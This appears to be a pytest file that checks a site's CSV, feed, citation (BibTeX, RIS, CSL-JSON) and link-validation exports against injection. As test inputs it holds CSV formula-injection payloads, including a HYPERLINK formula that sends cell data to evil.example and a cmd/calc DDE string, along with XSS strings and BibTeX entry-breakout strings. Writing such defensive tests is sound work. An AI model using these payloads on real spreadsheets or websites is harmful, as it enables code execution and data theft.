"""Exports escaped for their format: a hostile value cannot turn a file against its reader.

CSV cells that a spreadsheet would run are made inert; feeds stay well-formed XML whatever
character a value holds; every BibTeX and RIS field keeps its value inside its field and entry;
CSL-JSON and the JSON exports keep every value exact. Validation refuses DOIs and web addresses
that carry characters which could end a field or an HTML attribute, with a located message.
"""

from __future__ import annotations

import csv
import io
import json
import re
import sys
import xml.etree.ElementTree as ET
from functools import lru_cache
from pathlib import Path

import pytest
from test_messages import mini_hub_messages

from hub.catalog import Catalog
from hub.export_data import DATASETS, data_files, inert, render_csv
from hub.models import Brief
from hub.render_citations import (
    Citation,
    Person,
    bibtex_escape,
    render_bibtex,
    render_csl_json,
    render_ris,
)
from hub.render_feeds import FeedSite, render_atom, render_rss, xml_safe
from hub.validate_links import validate

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "quality"))
from export_checks import read_bibtex  # noqa: E402 - the reader the site scans use too

FIXTURE = Path(__file__).resolve().parents[1] / "fixtures" / "hub"
URL = "https://hub.example.org/briefs/alpha-brief/"
FORMULAS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
# What a hostile value may try inside a citation: close the field or entry, start a new one,
# start a new RIS tag line, or carry a character that XML forbids.
BREAKOUT = "x}}, note = {y}}\n@misc{injected, title={pwned}}\r\nTY  - JOUR\nER  - \u2028% # & \\ _ ~ ^ $ @ {"


@lru_cache(maxsize=1)
def catalog() -> Catalog:
    return validate(FIXTURE)[0]


# --- CSV ----------------------------------------------------------------------------------------


def _formula_start(cell: str) -> bool:
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\n")


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_cells_get_a_leading_quote(text: str) -> None:
    assert inert(text) == "'" + text
    assert inert("Plain name") == "Plain name" and inert("3.8") == "3.8" and inert("") == ""


def _hostile_rows(name: str) -> list[dict]:
    """The fixture's rows of a data set with every text value (and list item) a formula."""
    def poison(v, i=[0]):  # noqa: B006 - a counter shared by the calls of one data set
        if isinstance(v, str):
            i[0] += 1
            return FORMULAS[i[0] % len(FORMULAS)] + v
        if isinstance(v, list):
            return [poison(x) for x in v]
        if isinstance(v, dict):
            return {k: poison(x) for k, x in v.items()}
        return v
    rows = json.loads(data_files(catalog())[f"data/{name}.json"])
    return [poison(r) for r in rows]


@pytest.mark.parametrize("name", list(DATASETS))
def test_no_csv_cell_starts_a_formula_and_values_read_back(name: str) -> None:
    rows = _hostile_rows(name)
    text = render_csv(name, rows)
    read = list(csv.reader(io.StringIO(text, newline="")))
    assert len(read) == len(rows) + 1
    cells = [c for row in read[1:] for c in row]
    assert cells and not [c for c in cells if _formula_start(c)]
    # Read back, a quoted cell is the exact value after its quote.
    by_col = dict(zip(read[0], read[1], strict=True))
    for key, value in rows[0].items():
        if isinstance(value, str):
            assert by_col[key] == "'" + value.replace("\r", "\n"), key  # line breaks as \n


def test_numbers_and_dates_are_never_quoted() -> None:
    modules = list(csv.DictReader(io.StringIO(data_files(catalog())["data/modules.csv"])))
    assert modules and all(re.fullmatch(r"\d+(\.\d+)?", m["duration_hours"]) for m in modules)
    members = list(csv.DictReader(io.StringIO(data_files(catalog())["data/members.csv"])))
    assert any(m["cohort"] == "2023" for m in members)
    assert all(re.fullmatch(r"\d{4}-\d{2}-\d{2}", m["consent.date"]) for m in members)
    # A negative number stays a number: only text cells are changed.
    assert render_csv("modules", [{"duration_hours": -2.5}]).splitlines()[1].split(",")[
        list(csv.reader([render_csv("modules", []).splitlines()[0]]))[0].index("duration_hours")] == "-2.5"


def test_json_exports_keep_the_exact_values() -> None:
    from hub.export_data import render_json
    rows = _hostile_rows("partners")
    assert json.loads(render_json(rows)) == rows


# --- XML feeds ----------------------------------------------------------------------------------


@pytest.mark.parametrize("bad", ["Feed\x01breaker", "nul\x00", "esc\x1b[31m", "\ufffe\uffff", "lone \ud800",
                                 "]]></title><script>alert(1)</script>", "&amp; <![CDATA[x]]>"])
def test_feeds_parse_whatever_a_value_holds(bad: str) -> None:
    cat = catalog()
    brief = cat.published_briefs[0]
    hostile = brief.front.model_copy(update={"title": "T " + bad, "summary": "S " + bad})
    changed = type(brief)(brief.slug, hostile, brief.body, brief.origin)
    cat2 = Catalog(partners=cat.partners, members=cat.members, tracks=cat.tracks, modules=cat.modules,
                   briefs={**cat.briefs, brief.slug: changed})
    site = FeedSite("Hub " + bad, "About " + bad, "https://hub.example.org/", "https://hub.example.org/briefs/")
    for render in (render_rss, render_atom):
        root = ET.fromstring(render(cat2, site, lambda slug: f"https://hub.example.org/briefs/{slug}/"))
        texts = [e.text or "" for e in root.iter()]
        assert any(t.startswith("T ") for t in texts) and any(t.startswith("S ") for t in texts)
        assert not any("<script" in (e.tag or "") for e in root.iter())


def test_xml_safe_replaces_only_what_xml_forbids() -> None:
    assert xml_safe("a\x01b\x00c\ufffed") == "a\ufffdb\ufffdc\ufffdd"
    kept = "tab\tnl\ncr\r é 😀 \u2028 \x85"
    assert xml_safe(kept) == kept


# --- citations ----------------------------------------------------------------------------------


_UNESCAPE = {r"\textbackslash{}": "\\", r"\textbraceleft{}": "{", r"\textbraceright{}": "}",
             r"\textasciitilde{}": "~", r"\textasciicircum{}": "^", "{@}": "@", r"\%": "%",
             r"\&": "&", r"\$": "$", r"\#": "#", r"\_": "_"}


def _top_level(text: str) -> str:
    """The text outside braces (what BibTeX's name splitting reads)."""
    out, depth = [], 0
    for ch in text:
        depth += {"{": 1, "}": -1}.get(ch, 0)
        out.append(ch if depth == 0 and ch not in "{}" else "")
    return "".join(out)


def bibtex_unescape(text: str) -> str:
    return re.sub("|".join(re.escape(k) for k in _UNESCAPE), lambda m: _UNESCAPE[m.group()], text)


def hostile_citation(doi: str | None = "10.1234/abc_(1):2;3") -> Citation:
    authors = (Person("Given and Other " + BREAKOUT, "Family " + BREAKOUT), Person("", "Org " + BREAKOUT))
    return Citation("tricky", "Title " + BREAKOUT, authors, 2025, 3, 7, "Publisher " + BREAKOUT, URL, doi,
                    "Summary " + BREAKOUT, "en")


def test_bibtex_has_one_entry_and_every_value_stays_in_its_field() -> None:
    c = hostile_citation()
    (entry,) = read_bibtex(render_bibtex(c))
    kind, key, fields = entry
    assert (kind, key) == ("techreport", "tricky")
    assert list(fields) == ["title", "author", "institution", "type", "year", "month", "url", "doi",
                            "abstract", "langid"]
    flat = " ".join(BREAKOUT.split())
    assert bibtex_unescape(fields["title"]) == "{Title " + flat + "}"
    assert bibtex_unescape(fields["institution"]) == "Publisher " + flat
    assert bibtex_unescape(fields["abstract"]) == "Summary " + flat
    assert bibtex_unescape(fields["author"]) == (
        f"{{Family {flat}}}, {{Given and Other {flat}}} and {{Org {flat}}}")
    # BibTeX splits authors at " and " outside braces: still two authors, "and" in a name or not.
    assert len(re.split(r"\s+and\s+", _top_level(fields["author"]))) == 2
    assert fields["doi"] == "10.1234/abc_(1):2;3" and fields["url"] == URL  # verbatim fields


@pytest.mark.parametrize("raw, escaped", [
    ("{x}", r"\textbraceleft{}x\textbraceright{}"),
    ("x}", r"x\textbraceright{}"),
    ("a@b", "a{@}b"),
    ("line\none\r\ntwo\u2028three", "line one two three"),
    ("bell\x07", "bell"),
])
def test_bibtex_escape_keeps_braces_balanced(raw: str, escaped: str) -> None:
    assert bibtex_escape(raw) == escaped


@pytest.mark.parametrize("doi", ["10.1234/x}}@misc{injected,title={x}}", "10.1234/a b\n@misc{y,",
                                 "10.1234/back\\slash\"q"])
def test_bibtex_verbatim_fields_cannot_break_out(doi: str) -> None:
    """A DOI or URL that slipped past validation is percent-encoded, never unbalanced."""
    c = hostile_citation(doi)
    c = Citation(c.key, c.title, c.authors, c.year, c.month, c.day, c.publisher, URL + doi, doi,
                 c.summary, c.lang)
    (entry,) = read_bibtex(render_bibtex(c))
    assert not set(entry[2]["doi"]) & set("{}\\ \n\"@")
    assert entry[2]["url"].startswith(URL) and not set(entry[2]["url"]) & set("{}\\ \n\"@")


def test_ris_values_cannot_start_a_tag_line() -> None:
    c = hostile_citation()
    text = render_ris(c)
    assert text.endswith("ER  - \r\n")
    lines = text.split("\r\n")[:-1]
    assert all(re.fullmatch(r"[A-Z][A-Z0-9]  - [^\r\n\x00-\x1f]*", line) for line in lines), lines
    tags = [line[:2] for line in lines]
    assert tags.count("TY") == 1 and tags.count("ER") == 1 and tags[0] == "TY" and tags[-1] == "ER"
    assert tags == ["TY", "TI", "AU", "AU", "PY", "DA", "PB", "M3", "UR", "DO", "AB", "LA", "ER"]
    assert f"TI  - Title {' '.join(BREAKOUT.split())}" in lines


def test_csl_json_keeps_every_value_exact() -> None:
    c = hostile_citation()
    (item,) = json.loads(render_csl_json(c))
    assert item["title"] == c.title and item["abstract"] == c.summary
    assert item["publisher"] == c.publisher and item["DOI"] == c.doi
    assert item["author"] == [{"family": c.authors[0].family, "given": c.authors[0].given},
                              {"literal": c.authors[1].family}]


# --- validation: DOIs and web addresses ---------------------------------------------------------


@pytest.mark.parametrize("doi", ["10.1371/journal.pmed.0030449", "10.1016/S0140-6736(18)31612-X",
                                 "10.1002/14651858.CD004015.pub3", "10.1111/j.1468-0009.2005.00409.x",
                                 "10.1234/a_b;c:d/e"])
def test_real_dois_are_accepted(doi: str) -> None:
    base = catalog().published_briefs[0].front.model_dump(mode="json")
    assert Brief.model_validate({**base, "doi": doi}).doi == doi


DOI_HINT = ("after '10.NNNN/' a DOI may hold letters, digits and - . _ ; ( ) / : only; for an older DOI "
            "with other characters, give its https:// address as a reference's `url:`, or leave `doi:` out")
URL_HINT = ("which a web address cannot hold; copy the address from the browser's address bar; write a "
            "space as %20, a quote as %22 or %27, < and > as %3C and %3E")
CASES = [
    pytest.param('module', {'readings': '\n  - {title: A, year: 2006, doi: "10.1234/x}}@misc{injected,x", '
                                      'open_access: true}'}, [
        "curriculum/modules/sm-101.yaml:11:33: readings[1].doi: the DOI '10.1234/x}}@misc{injected,x' "
        f"contains characters a DOI here cannot hold ('}}@{{,'); {DOI_HINT}",
    ], id='doi-braces'),
    pytest.param('brief', {'doi': '"10.1234/a<b>c"'}, [
        "content/briefs/x-brief.md:17:6: doi: the DOI '10.1234/a<b>c' contains characters a DOI "
        f"here cannot hold ('<>'); {DOI_HINT}",
    ], id='doi-angle-brackets'),
    pytest.param('partner', {'website': 'https://www.who.int/x"onmouseover="alert(1)'}, [
        "partners.yaml:6:12: partners[1].website: the web address "
        f"'https://www.who.int/x\"onmouseover=\"alert(1)' contains '\"', {URL_HINT}",
    ], id='url-double-quote'),
    pytest.param('brief', {'references': "\n  - {title: A, year: 2018, url: \"https://www.who.int/x'"
                                         "onmouseover='alert(1)\"}"}, [
        "content/briefs/x-brief.md:15:33: references[1].url: the web address "
        f"\"https://www.who.int/x'onmouseover='alert(1)\" contains \"'\", {URL_HINT}",
    ], id='url-single-quote'),
    pytest.param('member', {'links': '{website: "https://x.example.org/\\"><svg/onload=alert(1)>"}'}, [
        "members.yaml:8:20: members[1].links.website: the web address "
        f"'https://x.example.org/\"><svg/onload=alert(1)>' contains '\"', {URL_HINT}",
    ], id='url-tag'),
    pytest.param('partner', {'website': '"https://example.org/a\\tb"'}, [
        "partners.yaml:6:12: partners[1].website: the web address 'https://example.org/a\\tb' "
        f"contains 'U+0009', {URL_HINT}",
    ], id='url-tab'),
]


@pytest.mark.parametrize("kind, changes, expected", CASES)
def test_message(kind: str, changes: dict, expected: list[str], tmp_path: Path) -> None:
    assert mini_hub_messages(tmp_path, kind, changes) == expected


def test_sitemap_is_made_xml_safe_by_the_hook() -> None:
    """MkDocs writes sitemap.xml (and .gz) from the theme; hooks/outputs.py cleans it on the way."""
    import outputs  # hooks/outputs.py

    sitemap = '<?xml version="1.0"?><urlset><url><loc>https://hub.example.org/a\x01b/</loc></url></urlset>'
    with pytest.raises(ET.ParseError):
        ET.fromstring(sitemap)
    loc = ET.fromstring(outputs.on_post_template(sitemap, template_name="sitemap.xml", config=None))
    assert loc[0][0].text == "https://hub.example.org/a\ufffdb/"
    assert outputs.on_post_template("a\x01", template_name="404.html", config=None) == "a\x01"
